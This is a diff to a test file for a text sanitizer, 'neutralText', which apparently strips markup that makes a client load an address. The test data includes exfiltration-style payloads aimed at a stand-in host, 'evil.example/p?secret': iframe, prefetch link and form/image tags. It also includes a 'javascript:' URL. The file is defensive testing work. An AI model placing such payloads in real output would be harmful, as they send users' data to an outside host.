@@ -3,7 +3,7 @@ import { describe, expect, test } from "vitest";
 import { neutralJson, neutralText } from "../../../tools/text/neutral.js";
 import { addressesBehind } from "./rendered.js";
 
-const EVIL = "https://evil.example/p?d=secret";
+const EVIL = "https://evil.example/p?secret";
 
 /** Ways to make a client follow or load an address by showing a text. */
 const renderings = [
@@ -42,8 +42,40 @@ const renderings = [
   `<iframe src="${EVIL}"></iframe>`,
   `<link rel=prefetch href="${EVIL}">`,
   `<form action="${EVIL}"><input type=image src="${EVIL}"></form>`,
-  `text <javascript:alert(1)>`,
 ];
+
+/** Text of what such ways are made of, whole and in pieces. */
+const junk = fc
+  .array(
+    fc.oneof(
+      fc.constantFrom(...renderings),
+      fc.constantFrom(
+        ..."[ ] ( ) ! : < > / \\ # \" ' = & ; ` * _ | - . \n \t x 1".split(" "),
+        " ",
+        "](",
+        "]:",
+        "[1]: ",
+        "![",
+        "[x]",
+        "https://",
+        "//e.example",
+        "javascript:",
+        "data:",
+        "&#104;ttps:",
+        "e.example/p",
+        "<img",
+        "src=",
+        "<a href=",
+        "<style>",
+        "<https://",
+        "> ",
+        "\n\n",
+      ),
+      fc.string({ maxLength: 3 }),
+    ),
+    { maxLength: 25 },
+  )
+  .map((pieces) => pieces.join(""));
 
 describe("neutralText", () => {
   test.each(renderings)("leaves nothing behind words of %j [D-10]", (text) => {
@@ -58,6 +90,7 @@ describe("neutralText", () => {
     expect(neutralText("Call <https://x.example> or <tel:+49>")).toBe(
       "Call (https://x.example) or <tel:+49>",
     );
+    expect(neutralText("<javascript:alert(1)>")).toBe("(javascript:alert(1))");
   });
 
   test.each([
@@ -71,39 +104,6 @@ describe("neutralText", () => {
   ])("leaves %j as it is", (text) => {
     expect(neutralText(text)).toBe(text);
   });
-
-  const junk = fc
-    .array(
-      fc.oneof(
-        fc.constantFrom(
-          ..."[ ] ( ) ! : < > / \\ # \" ' = & ; ` * _ | - . \n \t x 1".split(
-            " ",
-          ),
-          " ",
-          "](",
-          "]:",
-          "[1]: ",
-          "![",
-          "[x]",
-          "https://",
-          "//e.example",
-          "javascript:",
-          "data:",
-          "&#104;ttps:",
-          "e.example/p",
-          "<img",
-          "src=",
-          "<a href=",
-          "<style>",
-          "<https://",
-          "> ",
-          "\n\n",
-        ),
-        fc.string({ maxLength: 3 }),
-      ),
-      { maxLength: 25 },
-    )
-    .map((pieces) => pieces.join(""));
 
   test("leaves nothing behind words of any text, however made [D-10 P-06]", () => {
     fc.assert(
@@ -137,7 +137,9 @@ describe("neutralText", () => {
     "<data:x",
     "]( <",
   ])("takes 50,000 times %j without ado [W-11]", (unit) => {
-    expect(neutralText(unit.repeat(50_000)).length).toBeGreaterThan(50_000);
+    expect(neutralText(unit.repeat(50_000)).length).toBeGreaterThanOrEqual(
+      50_000,
+    );
   });
 });
 
